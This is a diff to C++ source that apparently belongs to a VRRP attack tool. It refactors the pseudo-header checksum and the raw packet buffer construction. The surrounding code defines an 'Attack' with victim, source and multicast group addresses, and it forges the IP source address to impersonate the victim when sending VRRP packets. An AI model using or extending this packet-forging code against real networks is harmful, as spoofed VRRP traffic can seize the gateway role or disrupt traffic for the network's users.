@@ -8,6 +8,7 @@
 #include <netinet/ip.h>
 #include <sys/socket.h>
 
+#include <algorithm>
 #include <array>
 #include <chrono>
 #include <cstdint>
@@ -41,12 +42,14 @@ std::uint16_t internet_checksum(const Octets& octets) {
 
 // RFC 9568 5.2: over the pseudo header as well.
 Octets with_checksum(Octets vrrp, in_addr from, in_addr to) {
-    Octets all(8);
+    constexpr std::size_t pseudo_header = 12;
+    Octets all(pseudo_header + vrrp.size());
     std::memcpy(all.data(), &from, 4);
     std::memcpy(all.data() + 4, &to, 4);
-    all.insert(all.end(), {0, protocol_vrrp, 0, static_cast<unsigned char>(vrrp.size())});
+    all[9] = protocol_vrrp;
+    all[11] = static_cast<unsigned char>(vrrp.size());
     vrrp[6] = vrrp[7] = 0;
-    all.insert(all.end(), vrrp.begin(), vrrp.end());
+    std::copy(vrrp.begin(), vrrp.end(), all.begin() + pseudo_header);
     const std::uint16_t sum = internet_checksum(all);
     vrrp[6] = static_cast<unsigned char>(sum >> 8);
     vrrp[7] = static_cast<unsigned char>(sum);
@@ -72,9 +75,9 @@ Octets packet(const Attack& attack, const Octets& payload, const Shape& shape = 
     header.saddr = shape.from_victim ? attack.victim.s_addr : attack.source.s_addr;
     header.daddr = attack.group.s_addr;
     header.tot_len = htons(static_cast<std::uint16_t>(sizeof header + payload.size()));  // the kernel adds the checksum
-    Octets octets(sizeof header);
+    Octets octets(sizeof header + payload.size());
     std::memcpy(octets.data(), &header, sizeof header);
-    octets.insert(octets.end(), payload.begin(), payload.end());
+    std::copy(payload.begin(), payload.end(), octets.begin() + sizeof header);
     return octets;
 }
 
